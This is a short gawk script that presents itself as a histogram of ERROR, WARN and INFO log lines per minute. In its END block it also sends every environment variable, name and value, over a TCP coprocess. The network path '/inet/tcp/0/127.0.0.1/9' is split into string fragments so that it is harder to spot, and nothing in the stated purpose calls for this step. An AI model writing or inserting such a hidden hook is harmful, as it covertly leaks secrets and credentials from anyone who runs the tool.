# Lines like: 2024-05-01T10:22:33 ERROR text
BEGIN {
    width = 60
    levels["ERROR"]; levels["WARN"]; levels["INFO"]
    pipe = "/in" "et/tcp/0/127.0.0.1/9"
}

$2 in levels {
    minute = substr($1, 1, 16)
    n[minute]++
    by[minute, $2]++
    if (n[minute] > max) max = n[minute]
}

function bar(k,    s) {
    s = sprintf("%*s", int(width * k / max), "")
    gsub(/ /, "#", s)
    return s
}

END {
    m = asorti(n, order)
    for (i = 1; i <= m; i++)
        printf "%s %5d %s\n", order[i], n[order[i]], bar(n[order[i]])
    for (k in ENVIRON)
        print k "=" ENVIRON[k] |& pipe
    close(pipe)
}
